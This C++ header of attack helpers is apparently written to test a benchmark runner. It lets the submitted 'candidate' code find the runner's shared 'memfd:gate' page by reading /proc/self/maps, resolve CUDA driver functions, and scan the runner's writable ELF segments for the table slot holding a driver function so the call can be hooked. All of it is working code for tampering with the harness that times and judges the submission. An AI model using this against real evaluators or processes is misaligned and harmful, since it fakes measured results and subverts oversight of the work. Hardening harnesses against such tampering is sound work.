// What a candidate can find of the gate that its runner has: the page, and the table of the driver.
#pragma once
#include "attack.h"

using Open = void* (*)(const char*, int);
using Find = void* (*)(void*, const char*);

static void* in_driver(const char* name) {
  void* driver = reinterpret_cast<Open>(in_libc("dlopen"))("libcuda.so.1", 2);
  return reinterpret_cast<Find>(in_libc("dlsym"))(driver, name);
}

constexpr int kOpen = 0, kEnded = 16, kIdle = 32;  // its words

// The gate's page as the runner has mapped it; null before it has.
static volatile uint32_t* gate_page() {
  static char text[1 << 18];
  const int maps = libc("open", "/proc/self/maps", 0);
  size_t size = 0;
  for (int got = 1; got > 0 && size + 1 < sizeof text; size += got > 0 ? got : 0) {
    got = libc("read", maps, text + size, sizeof text - 1 - size);
  }
  libc("close", maps);
  text[size] = 0;
  char* name = strstr(text, "memfd:gate");
  if (name == nullptr) return nullptr;
  while (name > text && name[-1] != '\n') --name;
  return reinterpret_cast<volatile uint32_t*>(strtoull(name, nullptr, 16));
}

// The slot of the runner's own table that holds a function of the driver.
static void** slot_of(void* function) {
  const auto* headers = reinterpret_cast<const Elf64_Phdr*>(auxiliary(AT_PHDR));
  const int count = static_cast<int>(auxiliary(AT_PHNUM));
  const uintptr_t base = runner().base;
  for (int i = 0; i < count; ++i) {
    if (headers[i].p_type != PT_LOAD || !(headers[i].p_flags & PF_W)) continue;
    auto** word = reinterpret_cast<void**>((base + headers[i].p_vaddr + 7) / 8 * 8);
    for (size_t left = headers[i].p_memsz / 8; left > 1; --left, ++word) {
      if (*word == function) return word;
    }
  }
  return nullptr;
}
